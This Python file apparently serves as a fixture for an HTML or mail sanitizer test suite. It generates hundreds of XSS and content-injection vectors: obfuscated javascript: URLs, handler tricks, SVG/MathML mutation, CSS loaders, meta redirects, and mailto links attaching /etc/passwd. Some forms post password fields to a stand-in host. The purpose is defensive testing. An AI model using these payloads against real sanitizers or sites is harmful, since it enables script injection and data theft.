"""Dangerous HTML by families: shapes × places that would run, load or read if they survived.

Every vector is written by us. Each family is a way in that some mail program or cleaner once let
through. Addresses lead to names under .invalid and to files that every system has.
"""

# ruff: noqa: E501 - a vector stands on one line
# fmt: off

from collections.abc import Iterator

REMOTE = (
    "http://t.invalid/x", "https://t.invalid/x.png", "//t.invalid/x.png", "ftp://t.invalid/x",
    "\\\\t.invalid\\share\\x.png", "file:///etc/passwd", "file://t.invalid/share/x.png",
    "/etc/hosts", "../../etc/hosts", "etc/hosts", "C:\\Windows\\win.ini", "qrc:/x.png",
    "//t.invalid\\x", "http:/t.invalid", "http:t.invalid", ":/x.png",
)
SCRIPTS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)", "javascript&#58;alert(1)", "\x01javascript:alert(1)",
    "\u2028javascript:alert(1)", "\u00a0javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "jar:http://t.invalid!/x", "feed:javascript:x",
    "view-source:javascript:x", "mhtml:http://t.invalid", "ms-officecmd:x", "search-ms:query=x",
    "smb://t.invalid/x", "blob:http://t.invalid/x", "filesystem:http://t.invalid/x", "about:blank",
)
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onstart",
    "onpointerenter", "onanimationend", "ONERROR", "OnErRoR", "on\u0131error",
)
CODE = "alert(1)"
_LOADERS = (
    "img src", "img srcset", "img lowsrc", "img dynsrc", "img longdesc", "input type=image src",
    "video poster", "video src", "audio src", "source src", "track src", "embed src", "object data",
    "iframe src", "frame src", "body background", "table background", "td background",
    "th background", "tr background", "link rel=stylesheet href", "link rel=prefetch href",
    "link rel=dns-prefetch href", "script src", "base href", "bgsound src", "image href",
    "image xlink:href", "use href", "blockquote cite", "q cite", "del cite", "ins cite",
    "form action", "button formaction", "a ping", "area href", "html manifest", "applet code",
    "applet archive", "layer src", "portal src", "isindex action", "keygen src", "menuitem icon",
)
_STYLES = (
    "background:url({0})", "background-image:url('{0}')", "background:u\\72l({0})",
    "list-style:url({0})", "list-style-image:url({0})", "border-image:url({0})",
    "cursor:url({0}),auto", "content:url({0})", "@import '{0}'", "behavior:url({0})",
    "-moz-binding:url({0})", "filter:url({0}#f)", "mask:url({0})", "clip-path:url({0})",
    "background:image-set('{0}' 1x)", "background:var(--x,url({0}))", "src:url({0})",
    "width:expression(alert('{0}'))", "background:url({0}", "background:/**/url({0})",
    "font:1px url({0})", "fill:url({0})", "shape-outside:url({0})", "offset-path:url({0})",
)
_PLACES = ("p", "td", "div", "span", "a", "table", "font", "blockquote", "body", "li")
_NAMESPACES = (
    "svg",
    "math",
    "svg><foreignObject",
    "math><mtext",
    "svg><desc",
    "math><annotation-xml",
)
_RAW = (
    "title", "textarea", "xmp", "noscript", "noembed", "noframes", "plaintext", "style", "script",
    "iframe", "template", "select", "option", "math><annotation-xml encoding=text/html",
)


def vectors() -> Iterator[tuple[str, str]]:
    """(family, markup) of each."""
    for family, shapes in _families().items():
        for shape in shapes:
            yield family, shape


def _families() -> dict[str, list[str]]:
    img = f"<img src=x onerror={CODE}>"
    return {
        "script": [
            f"<script{gap}>{CODE}</script{end}>"
            for gap in ("", " ", "/", "\t", " type=module", "\x0c", " x='>'", " async defer")
            for end in ("", " ", "/", " x")
        ],
        "script split": [
            "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>script>alert(1)<</script>/script>",
            "<script<script>>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
            "<script>alert(1)", "<script", "</script><script>alert(1)</script>", "<ſcript>alert(1)</ſcript>",
        ],
        "handlers": [
            f"<{tag} {handler}={quote}{CODE}{quote}>x</{tag}>"
            for tag in ("p", "img", "a", "table", "details")
            for handler in HANDLERS
            for quote in ("", '"', "'")
        ],
        "handlers glued": [
            f'<img{glue}src=x{glue}onerror={CODE}>' for glue in ("/", "\t", "\n", "\x0c", "//", "/x/", "\r")
        ] + [f'<img src="x"onerror="{CODE}">', f"<img src='x'onerror='{CODE}'>", f"<p a=>'' onclick={CODE}>"],
        "links": [f'<a href="{one}">x</a>' for one in (*SCRIPTS, *REMOTE[2:])],
        "links bare": [f"<a href={one.replace(' ', '')}>x</a>" for one in SCRIPTS],
        "links in areas": [f'<map><area href="{one}"></map>' for one in SCRIPTS[:12]],
        "loaders": [f'<{tag}="{one}">x' for tag in _LOADERS for one in REMOTE[:8]],
        "loaders of scripts": [f'<{tag}="{one}">x' for tag in _LOADERS for one in SCRIPTS[:4]],
        "styles": [
            f'<{place} style="{style.format(one)}">x</{place}>'
            for place in _PLACES[:4]
            for style in _STYLES
            for one in (REMOTE[0], REMOTE[5])
        ],
        "styles in places": [f'<{place} style="{_STYLES[0].format(REMOTE[2])}">x' for place in _PLACES],
        "styles escaped": [
            f"<p style='background:{word}({REMOTE[0]})'>x</p>"
            for word in ("u\\72l", "\\75rl", "ur\\6c", "u\\000072l", "UR\\4c", "ｕｒｌ", "u\u200brl", "url&#40;")
        ],
        "style sheets": [
            f"<style{how}>{what}</style>"
            for how in ("", " type=text/css", " media=all", "/", " scoped")
            for what in (f"@import '{REMOTE[0]}';", f"*{{background:url({REMOTE[5]})}}", "</style><script>alert(1)</script>")
        ],
        "style over the window": [
            f"<div style='{style}'>x</div>"
            for style in (
                "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute;z-index:999",
                "float:left;margin-left:-9999px", "opacity:0", "transform:scale(99)", "display:none",
                "animation:x 1s", "font-size:0", "visibility:hidden", "clip:rect(0,0,0,0)",
            )
        ],
        "namespaces": [
            f"<{space}>{inside}</{space.split('>')[0]}>"
            for space in _NAMESPACES
            for inside in (
                img, "<style><img src=x onerror=alert(1)></style>", "<script>alert(1)</script>",
                "<a href='javascript:alert(1)'>x</a>", "<a xlink:href='javascript:alert(1)'>x</a>",
                "<animate attributeName=href values=javascript:alert(1)>", "<title><img src=x onerror=alert(1)></title>",
            )
        ],
        "animated svg": [
            f"<svg><a><{tag} attributeName={name} {how}={one}><text>x</text></a></svg>"
            for tag in ("animate", "set", "animateTransform")
            for name in ("href", "xlink:href", "onclick")
            for how in ("to", "values", "from")
            for one in SCRIPTS[:2]
        ],
        "svg references": [
            f"<svg><{tag} {name}='{one}'/></svg>"
            for tag in ("image", "use", "feImage", "script", "filter", "pattern")
            for name in ("href", "xlink:href")
            for one in (REMOTE[0], REMOTE[5])
        ],
        "mutation by raw text": [f"<{raw}><img title='</{raw.split('>')[0]}>{img}'>" for raw in _RAW],
        "mutation by nesting": [
            f"<math><mtext><table><mglyph><style><!--</style>{img}-->", f"<form><math><mtext></form><form><mglyph><style></math>{img}",
            f"<svg></p><style><a id='</style>{img}'>", f"<table><td><select><table><style>{img}",
            f"<math><annotation-xml encoding='text/html'><style>{img}</style>", f"<p><svg><p>{img}", f"<b><style><style/>{img}",
            f"<noscript><style></noscript>{img}", f"<xmp><svg><b><style><b title='</style></svg>{img}'></xmp>",
        ],
        "comments": [
            f"<!--{a}{img}{b}" for a in ("", ">", "->", "[if gte mso 9]>", "!", "-") for b in ("-->", "--!>", ">", "->", "")
        ] + [f"<![CDATA[{img}]]>", f"<?xml version='1'?>{img}", f"<!doctype x [{img}]>", f"<!ENTITY x '{img}'>", f"<% {img} %>"],
        "unclosed": [
            f'<img src="x{end}' for end in ("", ">", "'>", f"`onerror={CODE}>", f"><script>{CODE}")
        ] + [f"<a href='x{img}", f"<p title=\"{img}", f"<img alt='`' src=x{img}", f"<{img}", f"< {img}", f"</{img}"],
        "backquotes": [f"<img alt=`{a}` src=`x` {h}=`{CODE}`>" for a in ("x", "'", '"', "``onload=1") for h in HANDLERS[:3]],
        "redirects": [
            f'<meta http-equiv="{name}" content="{content}">'
            for name in ("refresh", "Refresh", "REFRESH", "set-cookie", "Content-Security-Policy", "Link")
            for content in (f"0;url={REMOTE[0]}", f"0;URL='{SCRIPTS[0]}'", "0; url=data:text/html,x")
        ],
        "bases": [f"<base href='{one}'><a href='x'>x</a><img src='y.png'>" for one in (*REMOTE[:6], *SCRIPTS[:2])],
        "forms": [
            f"<form action='{one}' method=post>{field}</form>"
            for one in (REMOTE[0], SCRIPTS[0])
            for field in (
                "<input name=password type=password>", "<button>Log in</button>", "<textarea>x</textarea>",
                "<input type=image src=x>", "<select><option>x</select>", "<button formaction=javascript:alert(1)>",
            )
        ],
        "frames": [
            f"<{tag} {name}=\"{one}\"></{tag}>"
            for tag in ("iframe", "frame", "object", "embed", "portal", "fencedframe")
            for name, one in (("src", REMOTE[0]), ("data", REMOTE[5]), ("srcdoc", "<script>alert(1)</script>"))
        ],
        "objects": [
            f"<object classid='clsid:{n}'><param name=src value='{one}'></object>" for n in range(4) for one in REMOTE[:3]
        ],
        "pictures as data": [
            f"<img src='data:{kind},{body}'>"
            for kind in ("image/svg+xml", "image/svg+xml;base64", "text/html", "text/html;base64", "application/x", "", "image/png")
            for body in ("<svg onload=alert(1)>", "PHN2Zz4=", "x\"onerror=alert(1)")
        ],
        "content ids": [
            f"<img src='cid:{one}'>"
            for one in ("../x", "/etc/passwd", "x'onerror=alert(1)//", "x\"><script>alert(1)</script>", "%2e%2e/x", "http://t.invalid/x", "x" * 3000)
        ],
        "mail links": [
            f"<a href='mailto:{one}'>x</a>"
            for one in (
                "a@b.invalid?attach=/etc/passwd", "a@b.invalid?attachment=/etc/passwd", "a@b.invalid?subject=x&ATTACH=/etc/passwd",
                "a@b.invalid?bcc=c@d.invalid", "a@b.invalid?x-header=1", "a@b.invalid?subject=x%0D%0ABcc:c@d.invalid",
                "?attach=C:\\x", "a@b.invalid?insert=/etc/passwd", "a@b.invalid?from=x", "%22%20--attach%20x",
            )
        ],
        "rare schemes": [
            f"<a href='{scheme}:x'>x</a>"
            for scheme in (
                "chrome", "resource", "res", "moz-icon", "ms-its", "its", "mk", "hcp", "ldap", "gopher", "telnet",
                "ssh", "steam", "skype", "zoommtg", "slack", "vscode", "onenote", "ms-word", "tn3270", "wais", "irc",
                "news", "nntp", "git", "svn", "magnet", "ed2k", "tel;x", "facetime", "sms", "intent", "android-app",
                "ms-msdt", "shell", "x-apple", "itms", "cid;x", "livescript", "mocha", "ws", "wss", "dict", "imap",
            )
        ],
        "unc": [
            f"<img src='{one}'><a href='{one}'>x</a><table background='{one}'></table>"
            for host in ("t.invalid", "10.0.0.1", "t.invalid@SSL@80", "t.invalid@8080")
            for one in (
                f"\\\\{host}\\s\\x.png", f"//{host}/s/x.png", f"\\/{host}/s", f"/\\{host}/s", f"file:////{host}/s",
                f"file:\\\\{host}\\s", f"file://{host}/s", f"///{host}/s", f"\\\\?\\UNC\\{host}\\s", f"http:\\\\{host}\\s",
            )
        ],
        "entities": [
            f"<a href='{one}'>x</a>"
            for one in (
                "&#0000106avascript:x", "&#x6A&#x61vascript:x", "jav&Tab;ascript:x", "jav&NewLine;ascript:x", "javascript&colon;x",
                "&#1;javascript:x", "jav&#x0A;ascript:x", "&lt;script&gt;", "javas&#99;ript:x", "&#x200b;javascript:x", "&ZeroWidthSpace;javascript:x",
            )
        ],
        "twice escaped": [f"&lt;img src=x onerror={CODE}&gt;", f"&amp;lt;script&amp;gt;{CODE}", "&lt;script>alert(1)&lt;/script>", "&#60;script&#62;alert(1)"],
        "odd encodings": ["+ADw-script+AD4-alert(1)", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "%3Cscript%3Ealert(1)", "＜script＞alert(1)", "\ufeff<script>alert(1)</script>"],
        "clobbering": [f"<{tag} {name}='{value}'>x" for tag in ("a", "img", "div", "p") for name in ("id", "name") for value in ("body", "location", "__proto__", "loadResource")],
        "long and odd": ["<" + "a" * 20000 + ">", "<p " + "x=1 " * 3000 + f"onclick={CODE}>x</p>", "<p style='" + "color:red;" * 2000 + f"background:url({REMOTE[0]})'>x</p>", "<a href='https://t.invalid/" + "x" * 20000 + "'>x</a>"],
        "tags unknown": [f"<{tag} {HANDLERS[0]}={CODE} src={REMOTE[1]}>x</{tag}>" for tag in ("x", "xss", "custom-tag", "o:p", "v:imagedata", "v:rect", "st1:place", "w:sdt", "xml", "image", "h:script")],
        "word drawings": [f"<v:{tag} src='{one}' o:href='{one}'/>" for tag in ("imagedata", "fill", "shape", "background", "textbox") for one in REMOTE[:4]],
        "edges of links": [f"<a href='https://t.invalid/{one}'>x</a>" for one in ('"onclick=alert(1)', "<script>", "'><img src=x onerror=alert(1)>", "`", "\\", "&quot;onclick=1", "\x00", "\u202e")],
        "picture words": [f"<img src=x alt='{one}'>" for one in ("<script>alert(1)</script>", "&lt;img src=x onerror=alert(1)&gt;", "\"onerror=alert(1)", "]]>", "-->", "</span><script>alert(1)</script>")],
        "markers forged": [f"<{tag} class='{name}' id='x' onclick={CODE}>x</{tag}>" for tag in ("div", "span", "hr", "table") for name in ("quote", "cut", "blocked-image", "signature", "quote x' onclick='alert(1)")],
    }
